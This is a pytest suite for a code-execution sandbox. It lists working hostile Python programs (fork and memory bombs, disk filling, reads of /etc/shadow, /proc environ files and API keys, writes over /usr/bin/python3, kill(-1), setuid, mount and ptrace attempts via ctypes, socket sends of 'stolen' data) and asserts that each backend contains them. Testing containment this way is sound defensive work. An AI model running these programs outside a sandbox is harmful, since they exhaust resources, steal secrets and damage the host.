"""The hostile-program suite: every real backend must contain each of these, report it as the program's
failure (an ExecResult that is not ``ok``; never an exception), and leave the host as it was (the ``host``
fixture checks the planted secret file, the environment, the process table and the loopback server).

A program prints ESCAPED when its attack worked and exits 0; when the sandbox stops it, it either dies
or exits non-zero. The unsandboxed backend is never run here: it confines nothing, by design.
"""

from __future__ import annotations

import shutil
import textwrap
from dataclasses import dataclass

import pytest

from engine.sandbox import Backend, ExecResult, Limits

from .conftest import Host

TIMEOUT_S = 3.0
LIMITS = Limits()


@dataclass(frozen=True)
class Hostile:
    name: str
    source: str
    expect_timeout: bool = False
    expect_reason: str | None = None

    def program(self, host: Host) -> str:
        return (
            textwrap.dedent(self.source)
            .replace("@PORT@", str(host.server.port))
            .replace("@SECRET_FILE@", str(host.secret_file))
            .replace("@OUTSIDE@", str(host.outside_dir))
            .replace("@MARKER@", host.marker)
            .replace("@UNIX_SOCKET@", str(host.unix_socket))
        )


HOSTILE = [
    Hostile(
        "fork_bomb",
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        expect_timeout=True,
    ),
    Hostile(
        "memory_bomb",
        """
        hoard = []
        while True:
            hoard.append(b"x" * (16 << 20))
        """,
    ),
    Hostile("infinite_loop", "while True:\n    pass\n", expect_timeout=True),
    Hostile("sleep_past_timeout", "import time\nprint('napping', flush=True)\ntime.sleep(120)\n",
            expect_timeout=True),
    Hostile(
        "loopback_connection",
        """
        import socket, sys
        for host in ("127.0.0.1", "localhost", "::1"):
            try:
                s = socket.create_connection((host, @PORT@), timeout=1)
                s.sendall(b"stolen")
                print("ESCAPED via", host)
                sys.exit(0)
            except OSError as exc:
                print("blocked", host, exc)
        sys.exit(1)
        """,
    ),
    Hostile(
        "read_host_secret_file",
        """
        import glob, os, sys
        found = False
        targets = ["@SECRET_FILE@", "/etc/shadow", "/root/.bash_history"] + glob.glob("/proc/*/environ")
        for path in targets:
            try:
                with open(path, "rb") as fh:
                    data = fh.read()
                if path == "@SECRET_FILE@" or b"sk-planted" in data:
                    print("ESCAPED", path, data[:200])
                    found = True
            except OSError as exc:
                print("blocked", path, type(exc).__name__)
        sys.exit(0 if found else 1)
        """,
    ),
    Hostile(
        "write_outside_scratch",
        """
        import os, sys
        wrote = []
        for path in ["@OUTSIDE@/pwned-@MARKER@", "/usr/pwned-@MARKER@", "/pwned-@MARKER@",
                     "/etc/pwned-@MARKER@", "/usr/bin/python3"]:
            try:
                with open(path, "a") as fh:
                    fh.write("pwned")
                wrote.append(path)
            except OSError as exc:
                print("blocked", path, type(exc).__name__)
        if wrote:
            print("ESCAPED", wrote)
        sys.exit(0 if wrote else 1)
        """,
    ),
    Hostile(
        "read_api_key_from_environment",
        """
        import os, sys
        print(sorted(os.environ.items()))
        for path in ("/proc/self/environ", "/proc/1/environ"):
            try:
                print(path, open(path, "rb").read())
            except OSError as exc:
                print("blocked", path, exc)
        keys = [k for k in os.environ if "KEY" in k or "TOKEN" in k]
        print("ESCAPED" if keys else "no keys", keys)
        sys.exit(0 if keys else 1)
        """,
    ),
    Hostile(
        "child_outlives_run",
        """
        import os, subprocess, sys
        # A detached child in its own session, and a classic double-forked daemon: both try to linger.
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)  # @MARKER@"],
                         start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)  # @MARKER@"])
            os._exit(0)
        print("spawned, leaving")
        sys.exit(1)
        """,
    ),
    Hostile(
        "gigabytes_of_output",
        """
        import sys
        block = "x" * (1 << 20)
        for _ in range(4096):   # 4 GiB if nothing stops it
            sys.stdout.write(block)
            sys.stderr.write(block)
        """,
        expect_reason="output_limit",
    ),
    Hostile(
        "fill_the_disk",
        """
        import sys
        chunk = b"\\0" * (1 << 20)
        written = 0
        try:
            with open("big.bin", "wb") as fh:
                for _ in range(2048):   # 2 GiB
                    fh.write(chunk)
                    written += 1
        except OSError as exc:
            print("stopped after", written, "MiB:", exc)
            sys.exit(1)
        print("ESCAPED wrote", written, "MiB")
        """,
    ),
    Hostile(
        "kill_parent",
        """
        import os, signal, sys
        for target in (os.getppid(), 1):
            for sig in (signal.SIGKILL, signal.SIGTERM):
                try:
                    os.kill(target, sig)
                    print("sent", sig, "to", target)
                except OSError as exc:
                    print("blocked", target, exc)
        try:
            os.kill(-1, signal.SIGKILL)   # everything this user may signal
        except OSError as exc:
            print("blocked kill(-1)", exc)
        sys.exit(1)
        """,
    ),
    Hostile(
        "ctypes_tricks",
        """
        import ctypes, functools, os, sys
        print = functools.partial(print, flush=True)
        libc = ctypes.CDLL(None, use_errno=True)
        print("setuid(0) ->", libc.setuid(0), "uid", os.getuid())
        print("unshare(CLONE_NEWUSER) ->", libc.unshare(0x10000000))
        print("mount ->", libc.mount(b"none", b"/usr", b"tmpfs", 0, None))
        print("ptrace(PTRACE_ATTACH, 1) ->", libc.ptrace(16, 1, None, None))
        if os.getuid() == 0:
            print("ESCAPED root")
            sys.exit(0)
        ctypes.string_at(0)   # and then crash the interpreter outright
        """,
    ),
    Hostile(
        "fill_dev_shm_and_dev",
        """
        import os, sys
        chunk = b"\\0" * (1 << 20)
        written = {}
        for folder in ("/dev/shm", "/dev"):
            total = 0
            for n in range(16):   # 16 files of up to 16 MiB each: 256 MiB a folder if nothing stops it
                try:
                    with open(f"{folder}/fill-{n}", "wb") as fh:
                        for _ in range(16):
                            fh.write(chunk)
                            total += 1
                except OSError as exc:
                    print("stopped in", folder, "after", total, "MiB:", type(exc).__name__)
                    break
            written[folder] = total
        print(written)
        if any(mib > 64 for mib in written.values()):
            print("ESCAPED", written)
            sys.exit(0)
        sys.exit(1)
        """,
    ),
    Hostile(
        "unix_socket",
        """
        import socket, sys
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError as exc:
            print("blocked AF_UNIX", exc)
            sys.exit(1)
        try:
            s.connect("@UNIX_SOCKET@")
        except OSError as exc:
            print("created an AF_UNIX socket, but the host socket is out of reach:", exc)
            sys.exit(1)
        s.sendall(b"stolen")
        print("ESCAPED to the host's unix socket")
        """,
    ),
    Hostile(
        # An address-space limit counts what is mapped: SysV segments written and detached stay in the host's
        # memory. The kernel's accounting (a cgroup) must end it well before 1 GB is held.
        "shared_memory_detached",
        """
        import ctypes, sys
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        held = 0
        for _ in range(10):
            sid = libc.shmget(0, 100 * 1024 * 1024, 0o1600)
            addr = libc.shmat(sid, None, 0) if sid >= 0 else None
            if addr in (None, ctypes.c_void_p(-1).value):
                print("refused at", held, "MB")
                sys.exit(1)
            ctypes.memset(addr, 1, 100 * 1024 * 1024)
            libc.shmdt(ctypes.c_void_p(addr))
            held += 100
            print("held", held, "MB", flush=True)
        print("ESCAPED holding", held, "MB")
        """,
        expect_reason="memory",
    ),
    Hostile(
        "privilege_escalation",
        """
        import os, sys
        status = open("/proc/self/status").read()
        caps = [l for l in status.splitlines() if l.startswith(("CapEff", "CapPrm", "NoNewPrivs"))]
        print(caps)
        gained = []
        for attempt in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.setgroups([0])):
            try:
                attempt()
                gained.append(attempt)
            except OSError as exc:
                print("blocked", exc)
        if any(l.split()[1].strip("0") for l in caps if l.startswith("CapEff")) or gained:
            print("ESCAPED", caps, len(gained))
            sys.exit(0)
        sys.exit(1)
        """,
    ),
]


def _show(case: Hostile, backend: Backend, result: ExecResult) -> None:
    # One line per case and backend, for the CI log (pytest -s or -rA shows it).
    out = result.stdout.strip().replace("\n", " | ")[:100]
    print(
        f"[{backend.name}] {case.name}: exit={result.exit_code} timed_out={result.timed_out} "
        f"killed={result.killed_reason} {result.duration_s:.2f}s out={out!r}"
    )


@pytest.mark.parametrize("case", HOSTILE, ids=[h.name for h in HOSTILE])
def test_hostile_program_is_contained(case: Hostile, backend: Backend, host: Host) -> None:
    result = backend.run(case.program(host), {}, limits=LIMITS, timeout_s=TIMEOUT_S)
    _show(case, backend, result)

    assert result.backend == backend.name
    assert not result.ok, f"{case.name} counted as a successful run: {result}"
    assert "ESCAPED" not in result.stdout, result.stdout
    assert host.secret not in result.stdout + result.stderr, "the planted secret leaked"
    assert len(result.stdout.encode()) <= LIMITS.output_bytes
    assert len(result.stderr.encode()) <= LIMITS.output_bytes
    # Stopped promptly: the wall clock holds even for programs that fight it.
    assert result.duration_s < TIMEOUT_S + 2.0
    if case.expect_timeout:
        assert result.timed_out and result.killed_reason == "timeout"
    if case.expect_reason:
        assert result.killed_reason == case.expect_reason


def test_suite_has_the_required_programs() -> None:
    assert len(HOSTILE) >= 15


def test_bubblewrap_refuses_unix_sockets_whatever_the_binds_hold(host: Host) -> None:
    """Even where the host socket is not under a bind (no root to plant it under /usr), socket(AF_UNIX) is
    refused: the filter, not the layout, is what keeps host sockets out of reach."""
    from .conftest import get_backend

    program = "import socket\ntry:\n    socket.socket(socket.AF_UNIX)\nexcept PermissionError:\n    print('refused')\n"
    result = get_backend("bubblewrap").run(program, {}, limits=LIMITS, timeout_s=TIMEOUT_S)
    assert result.stdout.strip() == "refused", result


def test_bubblewrap_is_installed_where_the_suite_runs() -> None:
    # Fail, do not skip: CI must install Debian's bubblewrap so this suite runs for real.
    assert shutil.which("bwrap"), "bwrap is missing: apt-get install -y bubblewrap"


def test_bubblewrap_keeps_its_one_cpu(host: Host) -> None:
    """Under bubblewrap the one-CPU limit is an affinity set before the program starts; the seccomp filter
    refuses sched_setaffinity, so the program cannot widen it to every core. (The container backend's limit
    is a CPU quota, which no affinity call changes.)"""
    from .conftest import get_backend

    program = (
        "import os\nbefore = os.sched_getaffinity(0)\n"
        "try:\n    os.sched_setaffinity(0, set(range(os.cpu_count() or 1)))\n"
        "except PermissionError:\n    print('refused', len(before))\n"
        "else:\n    print('widened to', len(os.sched_getaffinity(0)))\n"
    )
    result = get_backend("bubblewrap").run(program, {}, limits=LIMITS, timeout_s=TIMEOUT_S)
    assert result.stdout.strip() == "refused 1", result


def test_bubblewrap_says_which_memory_limit_holds() -> None:
    """The result file records the enforced limits; as root on a host with a memory cgroup hierarchy (CI,
    this machine), the kernel's accounting is what holds the memory cap."""
    from .conftest import get_backend

    described = get_backend("bubblewrap").enforced_limits(LIMITS)
    memory = next(line for line in described if line.startswith("memory:"))
    assert "kernel cgroup" in memory, described
    assert any("widening it: refused by seccomp" in line for line in described), described
